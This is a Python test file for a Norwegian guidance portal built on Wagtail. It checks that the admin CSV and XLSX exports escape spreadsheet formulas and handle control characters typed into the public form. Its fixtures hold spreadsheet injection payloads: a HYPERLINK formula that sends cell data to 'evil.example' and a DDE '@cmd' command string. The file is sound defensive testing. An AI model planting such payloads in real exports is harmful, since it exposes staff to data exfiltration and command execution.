"""No admin export, CSV or XLSX, hands staff a cell that their spreadsheet would run, nor fails
on what a citizen typed."""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail.log_actions import log

from katalog.guidance.models import GuidanceRequest
from portal.exports import FORMULA_STARTS
from portal.models import StandardPage
from tests.admin_walk import admin_paths
from tests.factories import GuidanceRequestFactory

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
MESSAGE = "+SUM(1;2)"
NOTES = "@cmd|' /C calc'!A0"
TITLE = "-2+3 kurs"


@pytest.fixture
def hostile_content(home, admin_user):
    page = home.add_child(instance=StandardPage(title=TITLE, slug="formel"))
    page.save_revision(user=admin_user).publish()
    guidance_request = GuidanceRequestFactory(
        name=NAME, message=MESSAGE, internal_notes=NOTES, phone="-1"
    )
    log(guidance_request, "wagtail.edit", user=admin_user)
    return guidance_request, page


def csv_cells(response):
    text = b"".join(response.streaming_content).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_every_admin_export_neutralises_formulas(admin_client, hostile_content):
    guidance_request, page = hostile_content
    admin_client.raise_request_exception = False
    exports, csv_text, formulas = [], [], []
    for path in admin_paths(guidance_request, page):
        if admin_client.get(path).status_code != 200:
            continue
        response = admin_client.get(path, {"export": "csv"})
        if not response.streaming:
            continue
        exports.append(path)
        cells = csv_cells(response)
        csv_text += cells
        formulas += [(path, cell) for cell in cells if cell.startswith(FORMULA_STARTS)]
        workbook = xlsx_cells(admin_client.get(path, {"export": "xlsx"}))
        formulas += [(path, c.value) for c in workbook if c.data_type == "f"]

    assert "/admin/guidance_requests/" in exports
    assert "/admin/reports/site-history/" in exports
    assert formulas == []
    # The hostile values were exported, as text.
    for value in (NAME, MESSAGE, NOTES, "-1"):
        assert "'" + value in csv_text


def test_inbox_exports_a_request_typed_with_control_characters(client, admin_client):
    """The public form takes them; XML, and so XLSX, has no place for them."""
    typed = "Kari\x01Nord\x0bmann\uffff"
    response = client.post(
        "/nb/veiledning/bestill/",
        {
            "name": typed,
            "email": "kari@example.no",
            "municipality": "4614",
            "topic": "study",
            "contact_method": "email",
            "contact_time": "any",
            "message": "Eg vil ta\x1b fagbrev.",
            "consent": "on",
        },
    )
    assert response.status_code == 302
    assert GuidanceRequest.objects.get().name == typed

    xlsx = admin_client.get("/admin/guidance_requests/", {"export": "xlsx"})
    values = [cell.value for cell in xlsx_cells(xlsx)]
    assert "KariNordmann" in values
    assert "Eg vil ta fagbrev." in values
    # The CSV keeps what was typed; a spreadsheet reads it as text.
    assert typed in csv_cells(admin_client.get("/admin/guidance_requests/", {"export": "csv"}))
